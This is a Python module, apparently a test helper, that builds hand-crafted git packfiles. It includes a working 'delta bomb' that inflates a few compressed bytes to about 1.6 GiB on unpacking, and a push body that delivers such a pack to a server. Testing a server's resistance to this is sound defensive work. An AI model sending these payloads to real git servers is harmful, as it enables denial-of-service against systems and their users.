"""Packs as no git makes them (gitformat-pack(5))."""

import hashlib
import struct
import zlib

_BLOB, _OFS_DELTA = 3, 6
_COPIED = 0xFFFFFF  # the most that one instruction of a delta copies


def packet(line: bytes) -> bytes:
    """A pkt-line."""
    return f"{len(line) + 4:04x}".encode() + line


def push(ref: str, pack: bytes) -> bytes:
    """The body of a push that creates `ref`; what it is to point at does not exist."""
    command = f"{'0' * 40} {'1' * 40} {ref}".encode() + b"\0 report-status\n"
    return packet(command) + b"0000" + pack


def delta_bomb(copies: int = 100) -> bytes:
    """A blob of 16 MiB in a few bytes, and a delta that copies it; a hundred copies are 1.6 GiB when unpacked."""
    base = bytes(_COPIED)
    compressed = _deflated(base)
    instructions = b"\xf0\xff\xff\xff" * copies  # offset 0, three bytes of size
    delta = _delta_size(len(base)) + _delta_size(_COPIED * copies) + instructions
    first = _heading(_BLOB, len(base)) + compressed
    second = _heading(_OFS_DELTA, len(delta)) + _offset(len(first)) + _deflated(delta)
    body = b"PACK" + struct.pack(">II", 2, 2) + first + second
    return body + hashlib.sha1(body, usedforsecurity=False).digest()


def _deflated(data: bytes) -> bytes:
    return zlib.compress(data, 9)


def _heading(kind: int, size: int) -> bytes:
    first, size = (kind << 4) | (size & 0x0F), size >> 4
    heading = bytearray()
    while size:
        heading.append(first | 0x80)
        first, size = size & 0x7F, size >> 7
    return bytes([*heading, first])


def _offset(distance: int) -> bytes:
    reversed_digits = [distance & 0x7F]
    while distance := distance >> 7:
        distance -= 1
        reversed_digits.append(0x80 | (distance & 0x7F))
    return bytes(reversed(reversed_digits))


def _delta_size(size: int) -> bytes:
    digits = bytearray()
    while size > 0x7F:
        digits.append(0x80 | (size & 0x7F))
        size >>= 7
    return bytes([*digits, size])
